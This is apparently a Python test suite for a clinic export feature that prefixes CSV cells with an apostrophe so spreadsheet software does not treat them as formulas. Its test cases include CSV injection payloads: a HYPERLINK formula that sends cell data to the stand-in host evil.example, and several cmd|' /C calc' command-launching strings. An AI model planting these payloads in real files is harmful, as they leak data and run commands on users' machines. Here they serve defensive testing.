"""The formula guard: nothing runs, nothing is lost."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from clinic.exports.files.cells import CellKind
from clinic.exports.files.csv_file import CsvFile
from clinic.exports.files.guard import SUSPECTS, neutralise, release

MEAN = st.text(st.sampled_from("'=+-@\t\r\n ＝＋－＠\u00a0\ufeff1a5.,"), max_size=8)
ANYTHING = st.one_of(st.text(max_size=30), MEAN)


@given(ANYTHING)
def test_releasing_a_neutralised_text_gives_it_back(text: str) -> None:
    assert release(neutralise(text)) == text


@given(ANYTHING)
def test_no_cell_starts_a_formula(text: str) -> None:
    cell = neutralise(text)
    is_number = cell[1:].replace(".", "").replace(",", "").isdecimal()
    assert cell.strip()[:1] not in set("=+-@＝＋－＠") or (cell[0] in "+-" and is_number)


@given(ANYTHING)
def test_one_look_at_the_first_character_clears_a_cell(text: str) -> None:
    if text and text[0] not in SUSPECTS:
        assert neutralise(text) == text


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"x")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "\u00a0=1+1",
        "\ufeff=1+1",
        "＝1+1",
        "'=1+1",
        "-5-5",
        "+1-555-0100",
    ],
)
def test_a_formula_gets_an_apostrophe(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["", "Ana", "'t Hart", "-5", "-3.5", "+33612345678", "3,5", "O'Neill", "日本"])
def test_what_computes_nothing_stays_as_it_is(text: str) -> None:
    assert neutralise(text) == text


def test_every_typed_column_is_guarded_and_others_are_not() -> None:
    sink = io.BytesIO()
    file = CsvFile(sink, ["name", "state"], [CellKind.TEXT, CellKind.CODE])
    file.write_batch([["=1+1", None], ["done", "waiting"]])
    rows = list(csv.reader(io.StringIO(sink.getvalue().decode(), newline="")))
    assert rows == [["name", "state"], ["'=1+1", "done"], ["", "waiting"]]
